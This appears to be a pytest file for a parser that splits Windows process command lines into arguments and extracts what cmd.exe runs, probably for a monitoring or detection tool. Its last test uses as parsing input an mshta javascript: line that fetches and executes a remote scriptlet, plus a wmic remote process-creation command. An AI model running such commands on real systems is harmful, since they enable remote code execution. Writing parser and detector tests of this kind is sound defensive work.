"""Command lines of Windows processes into words."""

from __future__ import annotations

import pytest

from tidewaiter.reading import cmd


@pytest.mark.parametrize(
    ("line", "words"),
    [
        ('a "b c" d', ["a", "b c", "d"]),
        (r'a b\\\"c d\\"e f"', ["a", r"b\"c", "d\\e f"]),
        (r'"C:\x y\a.exe" "C:\dir\\" z', [r"C:\x y\a.exe", "C:\\dir\\", "z"]),
        ('a "say ""hi"" now"', ["a", 'say "hi" now']),
        ('a "open', ["a", "open"]),
        ('a "" b', ["a", "", "b"]),
        (r"C:\Program Files\x y\a.exe -q 1", [r"C:\Program Files\x y\a.exe", "-q", "1"]),
        (r"C:\tools\a.exe C:\other b\c.exe", [r"C:\tools\a.exe", r"C:\other", r"b\c.exe"]),
        ("", []),
    ],
)
def test_words(line: str, words: list[str]) -> None:
    assert cmd.split_arguments(line) == words


@pytest.mark.parametrize(
    ("rest", "text"),
    [
        (" /c dir", "dir"),
        ("/cdir", "dir"),
        (' /c"dir & ver"', "dir & ver"),
        ("/q /d /v:on /s /e:on /c dir", "dir"),
        ("/V:ON/C dir", "dir"),
        ("/k dir", "dir"),
        ("/r dir", "dir"),
        (' /c ""C:\\a b\\x.exe" "arg""', '"C:\\a b\\x.exe" "arg"'),
        (' /c "C:\\a b\\x.exe" arg', '"C:\\a b\\x.exe" arg'),
        (' /c "echo "a" & b"', 'echo "a" & b'),
        ("", None),
        (" /q", None),
    ],
)
def test_what_cmd_runs(rest: str, text: str | None) -> None:
    assert cmd.command_text(rest) == text


def test_one_process_is_one_invocation() -> None:
    (item,) = cmd.from_command_line("curl.exe -o a https://example.org/?a=1&b=2 | more")
    assert item.args == ("-o", "a", "https://example.org/?a=1&b=2", "|", "more")


def test_the_command_of_cmd_stays_one_word() -> None:
    (item,) = cmd.from_command_line('"C:\\Windows\\System32\\cmd.exe" /s /c "set x=1 & curl "a b""')
    assert item.args == ("/s", "/c", 'set x=1 & curl "a b"')
    (item,) = cmd.from_command_line("cmd /cdir")
    assert item.args == ("/c", "dir")


def test_programs_that_take_their_line_raw() -> None:
    (item,) = cmd.from_command_line('mshta javascript:a=GetObject("script:https://example.org/a.sct").Exec();')
    assert item.args == ('javascript:a=GetObject("script:https://example.org/a.sct").Exec();',)
    (item,) = cmd.from_command_line("wmic /node:h1 process call create 'cmd /c \"ver\"'")
    assert item.args == ("/node:h1", "process", "call", "create", 'cmd /c "ver"')
    assert not list(cmd.from_command_line("  "))
